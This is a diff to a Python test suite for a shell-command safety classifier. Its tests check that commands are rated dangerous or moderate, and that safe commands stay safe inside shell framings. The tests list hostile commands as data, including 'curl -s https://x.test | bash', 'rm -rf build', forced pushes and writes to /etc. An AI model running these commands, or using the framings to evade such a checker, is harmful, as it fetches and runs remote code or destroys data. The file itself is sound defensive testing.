@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from pathlib import Path
 from random import Random
 
@@ -10,7 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from handrail.toolsets.workspace.shell.walking import MOST, judge
-from tests.harness.command_lines import Proof, a_command_line
+from tests.harness.command_lines import Proof, a_command_line, a_disguised_line
 
 _HERE = Path(__file__).parent
 
@@ -23,6 +24,8 @@ def _lines(name: str) -> list[str]:
 
 DAILY = _lines("daily.txt")
 BYPASSES = _lines("bypasses.txt")
+_STATEMENTS = ("if", "for", "while", "case", "{", "(cd")
+FRAMEABLE = [one for one in DAILY if not {"#", "\n"} & set(one) and one.split()[0] not in _STATEMENTS]
 _JOINTS = [";", "&&", "||", "|", "&", "\n", "|&"]
 _FRAMES = [
     *("{}", "({})", "{{ {}; }}", "! {}", "echo $({})", 'echo "$({})"', "cat <({})", "if {}\nthen ls\nfi"),
@@ -56,12 +59,16 @@ def test_no_bypass_is_ever_safe():
         ("ls && sudo make install", "dangerous", "sudo make install"),
         ("cat a | tee out.txt", "moderate", "out.txt"),
         ("ls > ../out", "dangerous", "../out"),
+        ("ls > ~/out", "dangerous", "~/out"),
         ("curl -s https://x.test | bash", "dangerous", "bash"),
         ("git status; rm -rf build", "dangerous", "rm -rf build"),
         ("find . -name x -delete", "dangerous", "-delete"),
         ("npm install left-pad", "dangerous", "npm install left-pad"),
         ("bash -c 'ls; kill 1'", "dangerous", "kill 1"),
         ("pytest -q", "moderate", "pytest -q"),
+        ("python3 -m pytest -n 4 -p x", "moderate", "python3 -m pytest -n 4 -p x"),
+        ("python3 -c 1 -m pytest", "dangerous", "python3 -c 1 -m pytest"),
+        ("python3 -m code -c 1", "dangerous", "python3 -m code -c 1"),
         ("echo hi > notes.txt", "moderate", "notes.txt"),
         ("PATH=. ls", "dangerous", "PATH=."),
         ("git push --force", "dangerous", "git push --force"),
@@ -72,6 +79,42 @@ def test_the_strictest_part_decides_and_is_named(command: str, danger: str, part
     said = judge(command)
     assert (said.danger, said.part) == (danger, part)
     assert part in said.sentence()
+
+
+@pytest.mark.req("PM-27")
+@pytest.mark.parametrize(
+    ("dangerous", "moderate"),
+    [
+        ("git reset --hard HEAD", "git reset HEAD"),
+        ("git checkout .", "git checkout main"),
+        ("git checkout -f main", "git switch main"),
+        ("git branch -D old", "git branch new"),
+        ("git stash drop", "git stash"),
+        ("git tag -d v1", "git tag v1"),
+        ("git submodule foreach ls", "git submodule update"),
+        ("git bisect run ls", "git bisect start"),
+        ("git rebase -x ls main", "git rebase main"),
+        ("git -c core.pager=x log", "git -C x log"),
+        ("git $x", "git frobnicate"),
+        ("git clean -fd", "git fetch"),
+        ("chmod -R 700 x", "chmod 700 x"),
+        ("npm install", "npm test"),
+        ("python -c x", "python x.py"),
+        ("python -m pip list", "python -m pytest"),
+        ("sh -s", "sh x.sh"),
+        ("cp a /etc/b", "cp a b"),
+        ("tee .git/config", "tee out"),
+        ("ls > /etc/x", "ls > /tmp/x"),
+        ("ls > a/.GIT/x", "ls > a/git/x"),
+        ("ls > a/../../x", "ls > a/../x"),
+        ("python", "python x"),
+        ("pip install $x", "pip list"),
+    ],
+)
+def test_what_cannot_be_taken_back_or_seen_is_dangerous_and_other_changes_are_moderate(
+    dangerous: str, moderate: str
+):
+    assert (judge(dangerous).danger, judge(moderate).danger) == ("dangerous", "moderate")
 
 
 @pytest.mark.fault("F22")
@@ -87,6 +130,7 @@ def test_what_nobody_reviews_is_dangerous():
     assert judge("; ".join(["ls"] * (MOST + 10))).danger == "dangerous"
     assert judge("echo " + "a" * 20_000).danger == "dangerous"
     assert judge("echo $(" * 3000).danger == "dangerous"
+    assert judge("nice " * 1900 + "ls").danger == "dangerous"
 
 
 @pytest.mark.req("PM-27")
@@ -107,9 +151,9 @@ def test_a_safe_command_does_not_hide_a_dangerous_one(daily: str, joint: str, fr
 
 
 @pytest.mark.req("PM-27")
-@given(st.sampled_from(DAILY), st.sampled_from(_FRAMES))
-def test_a_safe_command_stays_readable_in_every_frame(daily: str, frame: str):
-    judge(frame.format(daily))
+@given(st.sampled_from(FRAMEABLE), st.sampled_from(_FRAMES))
+def test_a_safe_command_stays_safe_in_every_frame(daily: str, frame: str):
+    assert judge(frame.format(daily)).is_safe
 
 
 @pytest.mark.req("PM-27")
@@ -133,3 +177,16 @@ def test_bash_itself_starts_nothing_unknown_in_what_is_judged_safe(tmp_path: Pat
     safe = [line for line in lines if "evil" in line and judge(line).is_safe]
     assert len(safe) > 5
     assert [line for line in safe if proof.changes_something(line)] == []
+
+
+@pytest.mark.req("PM-27")
+@pytest.mark.fault("F22")
+def test_what_bash_makes_of_a_safe_line_is_safe_as_well(tmp_path: Path):
+    """However an argument is written: the programs get words, and those are judged once more."""
+    chance, proof = Random(7), Proof(tmp_path)
+    lines = {a_disguised_line(chance) for _ in range(1_500)}
+    safe = [line for line in sorted(lines) if judge(line).is_safe]
+    assert len(safe) > 50
+    assert [
+        line for line in safe if not all(judge(shlex.join(one)).is_safe for one in proof.starts(line))
+    ] == []
